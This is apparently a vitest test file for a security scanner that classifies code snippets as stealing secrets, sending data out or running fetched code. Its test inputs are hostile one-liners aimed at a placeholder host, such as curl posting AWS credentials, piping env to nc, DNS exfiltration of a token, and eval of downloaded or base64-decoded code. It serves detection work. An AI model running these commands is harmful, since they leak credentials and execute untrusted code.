import { expect, it } from "vitest";
import { prospectOf } from "../../../../src/core/scan/flow/flow-words.ts";

function promises(language: "sh" | "python" | "javascript", text: string): string {
  const { isThief, keys, isSender, isBlind, isRunner } = prospectOf(language, text);
  const said = { steals: isThief, sends: isSender, blindly: isBlind, runs: isRunner };
  const words = Object.entries(said).flatMap(([word, is]) => (is ? [word] : []));
  return [...words, ...keys.map((key) => `<${key}>`)].join(" ");
}

it.each([
  ["sh", "curl -d @$HOME/.aws/credentials https://a.example", "steals sends"],
  ["sh", "env | nc a.example 90", "steals sends blindly"],
  ["sh", 'dig "$TOKEN.a.example"', "sends blindly <TOKEN>"],
  ["sh", "curl -so /tmp/k https://a.example/k\nsh /tmp/k", "sends runs"],
  ["sh", "x=$(curl https://a.example)\neval $x", "sends runs"],
  ["sh", "curl https://a.example/rows", "sends"],
  ["sh", "env FOO = bar", ""],
  ["sh", "npm test", ""],
  ["python", "send(dict(os.environ))", "steals"],
  ["python", "for name in names: found[name] = os.environ[name]", "steals <>"],
  ["python", "os.environ['ACME_TOKEN'], os.environ.get('LANG')", "<ACME_TOKEN>"],
  ["python", "load_dotenv('.env')", "<>"],
  ["python", "requests.get(u); exec(x)", "sends runs"],
  ["python", "exec(b64decode(x))", "runs"],
  ["python", "subprocess.run(['ls']).stdout.decode()", ""],
  ["javascript", "fetch(u, { body: JSON.stringify(process.env) })", "steals sends"],
  ["javascript", "fetch(u, { headers: { key: process.env.ACME_TOKEN } })", "sends <ACME_TOKEN>"],
  ["javascript", "eval(atob(x))", "runs"],
] as const)("%s: %s", (language, text, expected) => {
  expect(promises(language, text)).toBe(expected);
});
